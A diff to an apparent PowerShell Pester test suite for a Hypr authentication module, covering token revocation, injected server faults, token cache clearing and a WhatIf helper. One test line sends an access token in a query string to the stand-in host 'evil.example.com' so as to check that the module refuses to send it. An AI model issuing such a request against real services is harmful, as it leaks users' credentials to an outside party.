@@ -153,41 +153,42 @@ BeforeAll {
 
         & $run 'Invoke-HyprApi: 401 after a revocation (renewed; and a token that cannot be renewed)' {
             Revoke $s.token
-            Invoke-HyprApi -Path '/rp/api/echo/after-revoke'
+            Step { Invoke-HyprApi -Path '/rp/api/echo/after-revoke' }
             $s.token = Read-Token (Get-HyprAccessToken -TenantUri $tenant -ClientId $id -ClientKey $key)
             Revoke $s.fixedToken
-            Invoke-HyprApi -Path '/rp/api/echo/fixed' -AccessToken $s.fixedTokenObject
+            Step { Invoke-HyprApi -Path '/rp/api/echo/fixed' -AccessToken $s.fixedTokenObject }
         }
 
         & $run 'Invoke-HyprApi: a server that echoes the request (500, 400 text, malformed), an HTML 502, a timeout, a redirect, a reset' {
             Add-Fault @{ route = 'api'; kind = 'status'; status = 500; body = (Get-EchoBody $s.echoAssertion.Jwt) }
-            Invoke-HyprApi -Path '/rp/api/echo/echoing-500'
+            Step { Invoke-HyprApi -Path '/rp/api/echo/echoing-500' }
             Add-Fault @{ route = 'api'; kind = 'status'; status = 400; contentType = 'text/plain'; body = (Get-EchoBody $s.echoAssertion.Jwt) }
-            Invoke-HyprApi -Path '/rp/api/echo/echoing-400' -Method POST -Body @{ a = 1 }
+            Step { Invoke-HyprApi -Path '/rp/api/echo/echoing-400' -Method POST -Body @{ a = 1 } }
             Add-Fault @{ route = 'api'; kind = 'status'; status = 200; body = '{"echo": "' + $s.token + '", "truncated": ' }
-            Invoke-HyprApi -Path '/rp/api/echo/malformed'
+            Step { Invoke-HyprApi -Path '/rp/api/echo/malformed' }
             Add-Fault @{ route = 'api'; kind = 'html'; status = 502 }
-            Invoke-HyprApi -Path '/rp/api/echo/html' -MaximumRetryCount 0
+            Step { Invoke-HyprApi -Path '/rp/api/echo/html' -MaximumRetryCount 0 }
             Add-Fault @{ route = 'api'; kind = 'delay'; delayMs = 2500 }
-            Invoke-HyprApi -Path '/rp/api/echo/slow' -TimeoutSec 1
+            Step { Invoke-HyprApi -Path '/rp/api/echo/slow' -TimeoutSec 1 }
             Add-Fault @{ route = 'api'; kind = 'redirect' }
-            Invoke-HyprApi -Path '/rp/api/echo/redirected'
+            Step { Invoke-HyprApi -Path '/rp/api/echo/redirected' }
             Add-Fault @{ route = 'api'; kind = 'reset' }
-            Invoke-HyprApi -Path '/rp/api/echo/reset' -MaximumRetryCount 0
+            Step { Invoke-HyprApi -Path '/rp/api/echo/reset' -MaximumRetryCount 0 }
         }
 
         & $run 'Invoke-HyprApi: refused before sending (an Authorization header, another host, a wrong key)' {
-            Invoke-HyprApi -Path '/rp/api/echo' -Headers @{ Authorization = "Bearer $($s.token)" }
-            Invoke-HyprApi -Path "https://evil.example.com/rp/api/echo?token=$($s.token)"
+            Step { Invoke-HyprApi -Path '/rp/api/echo' -Headers @{ Authorization = "Bearer $($s.token)" } }
+            Step { Invoke-HyprApi -Path "https://evil.example.com/rp/api/echo?token=$($s.token)" }
             Step { Invoke-HyprApi -Path '/rp/api/echo' -TenantUri $tenant -ClientId $id -ClientKey $Context.Other.clientKey }
         }
 
         & $run 'Get-HyprTokenCache and Clear-HyprTokenCache, then a cleared connection' {
             Get-HyprTokenCache -ClientId $id
             Get-HyprTokenCache | Format-List * -Force | Out-String -Width 4096
-            Clear-HyprTokenCache -ClientId $id -WhatIf
+            & $Context.WhatIf Clear-HyprTokenCache @{ ClientId = $id }
             Clear-HyprTokenCache -ClientId $id -PassThru
-            Invoke-HyprApi -Path '/rp/api/echo/cleared' -AccessToken $s.tokenObject
+            Step { Invoke-HyprApi -Path '/rp/api/echo/cleared' -AccessToken $s.tokenObject }
+            Step { Invoke-HyprApi -Path '/rp/api/echo/cleared-connection' }
         }
 
         & $run 'Connect-Hypr, Get-HyprContext, Disconnect-Hypr: -PassThru, the environment, a bad key there, a disconnected call' {
@@ -405,6 +406,8 @@ BeforeAll {
         State      = @{}
         Secrets    = $secretsHere
         Run        = $capture
+        # What -WhatIf says goes to the host, which no redirection catches: here nowhere, in the transcript run into it.
+        WhatIf     = { param($Command, $Parameters) Invoke-WithoutHost $Command ($Parameters + @{ WhatIf = $true }) }
         Defaults   = @{ '*-Hypr*:ErrorVariable' = '+leakErrors'; '*-Hypr*:WarningVariable' = '+leakWarnings'; '*-Hypr*:InformationVariable' = '+leakInformation' }
     }
     $script:errorsHere = @($Error)
@@ -434,6 +437,7 @@ $context = @{
     Defaults   = @{}
     # Errors reach the host as a script's would: non-terminating ones by themselves, terminating ones written as errors.
     Run        = { param($Name, $Body) Write-Host "=== $Name"; try { & $Body } catch { Write-Error -ErrorRecord $_ } }
+    WhatIf     = { param($Command, $Parameters) & $Command @Parameters -WhatIf }
 }
 Start-Transcript -LiteralPath $env:HYPRAUTH_TEST_TRANSCRIPT | Out-Null
 try {
@@ -499,7 +503,8 @@ Describe 'The runs exercised what they claim' {
     It 'wrote verbose, warning and information records, and the variables collected errors and warnings' {
         @($captured | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] }).Count | Should -BeGreaterThan 20
         @($captured | Where-Object { $_ -is [System.Management.Automation.WarningRecord] }).Count | Should -BeGreaterThan 0
-        @($variables | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] }).Count | Should -BeGreaterThan 10
+        # A terminating error reaches -ErrorVariable as its exception, a non-terminating one as its ErrorRecord.
+        @($variables | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] -or $_ -is [Exception] }).Count | Should -BeGreaterThan 10
         @($variables | Where-Object { $_ -is [System.Management.Automation.WarningRecord] }).Count | Should -BeGreaterThan 0
     }
 
